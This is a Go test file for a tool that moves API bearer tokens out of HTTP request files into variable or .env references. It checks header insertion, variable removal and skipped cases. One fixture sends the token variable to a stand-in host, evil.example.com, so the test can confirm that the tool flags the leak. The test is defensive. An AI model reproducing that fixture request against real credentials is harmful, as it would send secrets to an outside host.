package httpfile

import (
	"strings"
	"testing"
)

func TestEnvFileModeLeavesNoTokenInTheFile(t *testing.T) {
	dox := "https://" + doxHost + "/document-information-extraction/v1"
	opts := Options{Token: tokenA, APIHost: doxHost, Mode: ModeEnvFile, Line: -1}
	tests := []struct{ name, src, want, skipped string }{
		{"header added", "GET " + dox + "/capabilities\r\nAccept: */*\r\n",
			"GET " + dox + "/capabilities\r\nAccept: */*\r\nAuthorization: Bearer {{doxToken}}\r\n", ""},
		{"literal becomes the reference", "GET " + dox + "/x\nAuthorization: Bearer " + tokenB + "  \n",
			"GET " + dox + "/x\nAuthorization: Bearer {{doxToken}}  \n", ""},
		{"already there", "GET " + dox + "/x\nAuthorization: Bearer {{ doxToken }}\n",
			"GET " + dox + "/x\nAuthorization: Bearer {{ doxToken }}\n", ""},
		{"variable mode's variable removed", "# DOX\n@doxToken = " + tokenB + "\r\n\r\n###\r\nGET " + dox + "/x\r\nAuthorization: Bearer {{doxToken}}\r\n###\r\nGET " + dox + "/y\r\n",
			"# DOX\n\r\n###\r\nGET " + dox + "/x\r\nAuthorization: Bearer {{doxToken}}\r\n###\r\nGET " + dox + "/y\r\nAuthorization: Bearer {{doxToken}}\r\n", ""},
		{"variable on the last line", "GET " + dox + "/x\nAuthorization: Bearer {{doxToken}}\n###\n@doxToken = " + tokenB,
			"GET " + dox + "/x\nAuthorization: Bearer {{doxToken}}\n###\n", ""},
		{"another variable is named", "@tok = " + tokenB + "\nGET " + dox + "/x\nAuthorization: Bearer {{tok}}\n",
			"@tok = " + tokenB + "\nGET " + dox + "/x\nAuthorization: Bearer {{tok}}\n",
			"L1 Authorization takes its token from {{tok}}; set variableName to tok to keep that one in the environment file"},
		{"the reference also goes elsewhere", "GET " + dox + "/x\n###\nGET https://evil.example.com/x\nX-Token: {{doxToken}}\n",
			"GET " + dox + "/x\n###\nGET https://evil.example.com/x\nX-Token: {{doxToken}}\n",
			"L0 token variable {{doxToken}} is also sent to evil.example.com; L2 foreign host evil.example.com"},
		{"another scheme", "GET " + dox + "/x\nAuthorization: Basic dXNlcjpwYXNz\n",
			"GET " + dox + "/x\nAuthorization: Basic dXNlcjpwYXNz\n", "L0 Authorization uses Basic"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, plan := edit(t, tt.src, opts)
			if out != tt.want || reasons(plan) != tt.skipped {
				t.Errorf("got %q, skipped %q\nwant %q, skipped %q", hide(out), reasons(plan), hide(tt.want), tt.skipped)
			}
			if strings.Contains(out, tokenA) {
				t.Error("the token went into the request file")
			}
		})
	}
}

func TestEnvFileModeDotenvReference(t *testing.T) {
	dox := "https://" + doxHost + "/document-information-extraction/v1"
	opts := Options{Token: tokenA, APIHost: doxHost, Mode: ModeEnvFile, Dotenv: true, Line: -1}
	src := "@doxToken = keep\nGET " + dox + "/x\nAuthorization: Bearer " + tokenB + "\n###\nGET " + dox + "/y\n"
	out, plan := edit(t, src, opts)
	want := "@doxToken = keep\nGET " + dox + "/x\nAuthorization: Bearer {{$dotenv doxToken}}\n###\nGET " + dox + "/y\nAuthorization: Bearer {{$dotenv doxToken}}\n"
	if out != want || len(plan.Skipped) != 0 {
		t.Errorf("got %q (skipped %s), want %q", hide(out), reasons(plan), hide(want))
	}
	if len(Tokens([]byte(out))) != 0 {
		t.Error("Tokens finds a token in a file that refers to .env")
	}
}

// Refreshing a file in envFile mode replaces the tokens it still holds,
// like header mode, and adds nothing.
func TestEnvFileModeRefreshOnlyReplacesWhatIsThere(t *testing.T) {
	dox := "https://" + doxHost + "/document-information-extraction/v1"
	src := "GET " + dox + "/x\nAuthorization: Bearer " + tokenB + "\n###\nGET " + dox + "/y\nAuthorization: Bearer {{doxToken}}\n"
	out, _ := edit(t, src, Options{Token: tokenA, APIHost: doxHost, Mode: ModeEnvFile, RefreshOnly: true, Line: -1})
	if want := strings.Replace(src, tokenB, tokenA, 1); out != want {
		t.Errorf("got %q, want %q", hide(out), hide(want))
	}
}

func hide(s string) string {
	return strings.NewReplacer(tokenA, "<tokenA>", tokenB, "<tokenB>").Replace(s)
}
